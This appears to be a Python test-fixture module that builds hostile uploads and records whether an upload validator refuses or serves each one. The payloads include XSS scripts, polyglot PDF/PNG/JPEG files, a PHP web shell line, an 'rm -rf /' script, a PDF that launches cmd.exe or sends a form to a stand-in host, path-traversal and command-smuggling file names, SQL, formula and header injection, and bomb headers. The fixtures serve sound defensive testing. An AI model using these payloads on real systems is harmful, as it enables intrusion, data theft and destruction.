"""Files that nobody should have to open: what they are, claim to be and are called, and what becomes of them."""

from collections.abc import Iterator
from dataclasses import dataclass

from schema.kit.uploads import MAX_FILE_BYTES
from tests.resolvers.whole_files import WHOLE, chunk, comment, jpeg, pdf, png

SCRIPT = b"<script>alert(document.domain)</script>"
ZIP = b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + b"\0" * 40 + b"PK\x05\x06" + b"\0" * 18
TYPE, EMPTY, LARGE, PIXELS = "FILE_TYPE", "FILE_EMPTY", "FILE_TOO_LARGE", "FILE_PIXELS"


@dataclass(frozen=True, slots=True)
class HostileFile:
    """A file as somebody sends it; it is refused with a code, or stored and served as a media type."""

    why: str
    content: bytes
    refused: str = ""
    served: str = ""
    name: bytes = b"proof.pdf"
    claims: str = "application/pdf"


OTHERS: dict[str, bytes] = {
    "SVG": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "SVG after a declaration": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>",
    "HTML": b"<!doctype html>" + SCRIPT,
    "HTML in UTF-16": ("\ufeff<html>" + SCRIPT.decode()).encode("utf-16-le"),
    "XHTML": b'<html xmlns="http://www.w3.org/1999/xhtml">' + SCRIPT + b"</html>",
    "XSLT": b'<?xml-stylesheet type="text/xsl" href="#x"?><x/>',
    "MHTML": b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n" + SCRIPT,
    "JavaScript": b"alert(1)//%PDF-1.7",
    "a style sheet": b"*{background:url(javascript:alert(1))}",
    "plain text": b"I am qualified. Believe me.",
    "a spreadsheet formula": b'=HYPERLINK("http://evil.example","x")',
    "a zip": ZIP,
    "a Word file": ZIP.replace(b"PK\x03\x04", b"PK\x03\x04", 1) + b"word/document.xml",
    "an old Word file": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512,
    "RTF": b"{\\rtf1\\ansi {\\object\\objdata}}",
    "a JAR": ZIP + b"META-INF/MANIFEST.MF",
    "a Java class": b"\xca\xfe\xba\xbe\x00\x00\x00\x34",
    "a Windows program": b"MZ\x90\x00" + b"\0" * 60 + b"PE\0\0",
    "a Linux program": b"\x7fELF\x02\x01\x01" + b"\0" * 57,
    "a macOS program": b"\xcf\xfa\xed\xfe\x07\x00\x00\x01",
    "WebAssembly": b"\0asm\x01\0\0\0",
    "a shell script": b"#!/bin/sh\nrm -rf /\n",
    "PHP": b"<?php system($_GET['c']); ?>",
    "a shortcut": b"L\0\0\0\x01\x14\x02\0",
    "an HTA": b"<hta:application/>" + SCRIPT,
    "GIF": b"GIF89a\x01\0\x01\0\x80\0\0\xff\xff\xff\0\0\0;",
    "GIF that is JavaScript": b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1);",
    "BMP": b"BM\x46\0\0\0\0\0\0\0\x36\0\0\0",
    "TIFF": b"II*\0\x08\0\0\0\0\0",
    "WebP": b"RIFF\x1a\0\0\0WEBPVP8 ",
    "AVIF": b"\0\0\0\x1cftypavif\0\0\0\0",
    "HEIC": b"\0\0\0\x18ftypheic\0\0\0\0",
    "an icon": b"\0\0\x01\0\x01\0\x10\x10",
    "Photoshop": b"8BPS\0\x01\0\0\0\0\0\0",
    "PostScript": b"%!PS-Adobe-3.0\n(%PDF-1.7) run\n%%EOF\nstartxref",
    "Flash": b"CWS\x0a\0\0\0\0",
    "a film": b"\0\0\0\x20ftypisom\0\0\x02\0",
    "sound": b"ID3\x04\0\0\0\0\0\0",
    "gzip": b"\x1f\x8b\x08\0\0\0\0\0",
    "a 42 kB bomb's head": b"PK\x03\x04\x2d\0\x09\0\x08\0" + b"\xff" * 300,
    "RAR": b"Rar!\x1a\x07\x01\0",
    "7z": b"7z\xbc\xaf\x27\x1c\0\x04",
    "tar": b"x" * 257 + b"ustar\0" + b"\0" * 249,
    "SQLite": b"SQLite format 3\0",
    "an e-mail": b"From: a@b.example\r\nSubject: proof\r\n\r\n%PDF-1.7",
    "a private key": b"-----BEGIN PRIVATE KEY-----\n",
    "zeros": b"\0" * 4096,
    "one byte": b"%",
    "a byte order mark": b"\xef\xbb\xbf",
    "the first word of a PDF": b"%PDF-",
    "the ends of a PDF without a beginning": b"startxref\n0\n%%EOF\n",
    "a PDF of no version": pdf().replace(b"1.7", b"x.y"),
    "a PDF that is HTML in its first line": b"%PDF-1.7<script>" + pdf()[8:],
    "a PDF without a table": pdf().replace(b"startxref", b"startnone"),
    "the signature of a PNG alone": b"\x89PNG\r\n\x1a\n",
    "a PNG without a header": b"\x89PNG\r\n\x1a\n" + chunk(b"tEXt", SCRIPT) + chunk(b"IEND", b""),
    "a PNG with a zip behind it": png() + ZIP,
    "a PNG with HTML behind it": png() + SCRIPT,
    "the start of a JPEG alone": b"\xff\xd8\xff\xe0",
    "a JPEG of no kind": b"\xff\xd8\xff\x00" + jpeg()[4:],
    "a JPEG that is HTML": b"\xff\xd8" + SCRIPT + b"\xff\xd9",
}
POLYGLOTS: dict[str, tuple[str, bytes]] = {
    "a PDF with HTML in it": ("pdf", pdf(b"<html><body>" + SCRIPT)),
    "a PDF that runs JavaScript": ("pdf", pdf(b"1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj")),
    "a PDF that starts a program": ("pdf", pdf(b"1 0 obj<</OpenAction<</S/Launch/F(cmd.exe)>>>>endobj")),
    "a PDF with a zip in it": ("pdf", pdf(ZIP)),
    "a PDF with a form that is sent away": ("pdf", pdf(b"<</S/SubmitForm/F(http://evil.example)>>")),
    "a PDF that is a shell script from its second line on": ("pdf", pdf(b"#!/bin/sh\nrm -rf /\nexit")),
    "a PDF with PHP in it": ("pdf", pdf(b"<?php system($_GET['c']); ?>")),
    "a PDF with XFA": ("pdf", pdf(b'<xdp:xdp><script contentType="application/x-javascript">1</script></xdp:xdp>')),
    "a PNG with HTML in a text": ("png", png(chunk(b"tEXt", b"Comment\0" + SCRIPT))),
    "a PNG with PHP in a text": ("png", png(chunk(b"tEXt", b"Comment\0<?php phpinfo(); ?>"))),
    "a PNG with a zip in a chunk": ("png", png(chunk(b"zZip", ZIP))),
    "a PNG with an outside profile": (
        "png",
        png(chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0<!DOCTYPE x SYSTEM 'http://e'>")),
    ),
    "a JPEG with HTML in a comment": ("jpeg", jpeg(comment(b"<html>" + SCRIPT))),
    "a JPEG with PHP in a comment": ("jpeg", jpeg(comment(b"<?php phpinfo(); ?>"))),
    "a JPEG with a zip behind it": ("jpeg", jpeg() + ZIP),
    "a JPEG with HTML behind it": ("jpeg", jpeg() + SCRIPT),
    "a JPEG that is JavaScript": ("jpeg", jpeg(comment(b"*/=alert(1);/*"))),
    "a JPEG with a PDF behind it": ("jpeg", jpeg() + pdf()),
    # bombs: a few bytes that claim to be enormous, which nobody here unpacks
    "a PNG whose text unpacks to a gigabyte": ("png", png(chunk(b"zTXt", b"x\0\0" + b"\x78\x9c" + b"\xed" * 500))),
    "a PNG with a thousand chunks": ("png", png(chunk(b"tEXt", b"a\0b") * 1000)),
    "a JPEG with a thousand comments": ("jpeg", jpeg(comment(b"x") * 1000)),
    "a PDF that claims a gigabyte": (
        "pdf",
        pdf(b"1 0 obj<</Length 1073741824/Filter/FlateDecode>>stream\nx\nendstream"),
    ),
    "a PDF with ten filters on each other": ("pdf", pdf(b"<</Filter[" + b"/FlateDecode" * 10 + b"]>>")),
    "a PDF nested a thousand deep": ("pdf", pdf(b"<<" * 1000)),
    "a PDF that refers to itself": ("pdf", pdf(b"1 0 obj 1 0 R endobj")),
}
SIZES: tuple[tuple[int, int, str], ...] = (
    (0, 0, PIXELS),
    (0, 1, PIXELS),
    (1, 0, PIXELS),
    (8_000, 5_000, ""),
    (8_000, 5_001, PIXELS),
    (65_535, 65_535, PIXELS),
)
"""What pictures claim to measure, and the code with which they are refused."""
PREFIXES: dict[str, bytes] = {
    "a line": b"\n", "a space": b" ", "a byte order mark": b"\xef\xbb\xbf", "a zero": b"\0", "HTML": SCRIPT,
    "a zip": ZIP, "a kilobyte": b"x" * 1023, "GIF": b"GIF89a",
}  # fmt: skip
HARMLESS = ("a line", "a space", "a byte order mark", "a zero")
"""What scanners and mail programs leave before a PDF, and readers of PDFs do not mind."""
NAMES: dict[str, bytes] = {
    "a way up": b"../../../etc/passwd",
    "a way up on Windows": b"..\\..\\windows\\win.ini",
    "an absolute path": b"/etc/cron.d/evil",
    "a drive": b"C:\\autoexec.bat",
    "a server": b"\\\\evil.example\\share\\x",
    "a stream": b"x.pdf:evil.exe",
    "a device": b"CON",
    "a hidden file": b".htaccess",
    "nothing": b"",
    "a space": b" ",
    "a dot": b".",
    "two dots": b"..",
    "only an ending": b".pdf",
    "two endings": b"proof.pdf.exe",
    "the other order": b"proof.exe.pdf",
    "HTML": b"<img src=x onerror=alert(1)>.pdf",
    "a tag in an ending": b"proof.<b>",
    "a header": b"x%0d%0aSet-Cookie: a=b.pdf",
    "a quotation mark": b'a\\"b\\"; filename=evil.exe',
    "semicolons": b"a;b;c.pdf",
    "percents": b"%2e%2e%2f%00.pdf",
    "text turned round": "proof\u202efdp.exe".encode(),
    "an isolate": "a\u2066b\u2069.pdf".encode(),
    "nothing to see": "\u200b\u200b\ufeff".encode(),
    "a tab and a bell": b"a\tb\x07.pdf",
    "another alphabet": "Сертификат №1.pdf".encode(),
    "Arabic": "شهادة.pdf".encode(),
    "an emoji": "🎓👩‍⚕️.pdf".encode(),
    "marks on a letter": ("a" + "\u0301" * 60).encode(),
    "a name of 300 letters": b"a" * 300 + b".pdf",
    "a name of 3000 letters": b"b" * 3000,
    "a formula": b"=cmd|' /C calc'!A0.pdf",
    "SQL": b"'; DROP TABLE file; --.pdf",
    "a template": b"{{7*7}}${7*7}.pdf",
    "no UTF-8": b"\xff\xfe\xfd.pdf",
    "a command": b"$(reboot)`reboot`.pdf",
}


def _around(kind: str, served: str, content: bytes) -> Iterator[HostileFile]:
    """Give a whole file with something before it or behind it."""
    for what, before in PREFIXES.items():
        is_taken = kind == "pdf" and what in HARMLESS
        yield HostileFile(
            f"{what} before a {kind}", before + content, "" if is_taken else TYPE, served if is_taken else ""
        )
    is_taken = kind != "png"
    yield HostileFile(
        f"blanks behind a {kind}", content + b"\r\n \0" * 2_000, "" if is_taken else TYPE, served if is_taken else ""
    )


def hostile_files() -> Iterator[HostileFile]:
    """Give all of them."""
    for what, content in OTHERS.items():
        yield HostileFile(f"{what} as a PDF", content, TYPE)
        yield HostileFile(f"{what} as a PNG", content, TYPE, name=b"proof.png", claims="image/png")
    for kind, (served, content) in WHOLE.items():
        yield from _around(kind, served, content)
        for length in (3, 8, 12, len(content) // 2, len(content) - 8, len(content) - 7):
            cut = content[:length]
            yield HostileFile(f"a {kind} of which {length} bytes came", cut, TYPE)
        yield HostileFile(
            f"a {kind} that claims to be HTML", content, served=served, name=b"x.html", claims="text/html"
        )
        for what, name in NAMES.items():
            yield HostileFile(f"a {kind} that is called {what}", content, served=served, name=name)
    for what, (kind, content) in POLYGLOTS.items():
        yield HostileFile(what, content, served=WHOLE[kind][0], name=b"x.svg", claims="image/svg+xml")
    for width, height, refused in SIZES:
        for served, content in (
            ("image/png", png(width=width, height=height)),
            ("image/jpeg", jpeg(comment(b"\xff\xc0" * 9), width=width, height=height)),
        ):
            yield HostileFile(f"{served} of {width} by {height}", content, refused, "" if refused else served)
    yield HostileFile("a PNG of more lines than can be counted", png(width=2**31 - 1, height=2**31 - 1), PIXELS)
    yield HostileFile("a JPEG without a frame", jpeg().replace(b"\xff\xc0", b"\xff\xfe"), PIXELS)
    yield HostileFile("no byte at all", b"", EMPTY)
    most = pdf(b"%" + b"x" * (MAX_FILE_BYTES - len(pdf()) - 1))
    yield HostileFile("exactly 10 MB", most, served="application/pdf")
    yield HostileFile("a byte more than 10 MB", most.replace(b"%x", b"%xx", 1), LARGE)


HOSTILE_FILES = tuple(hostile_files())
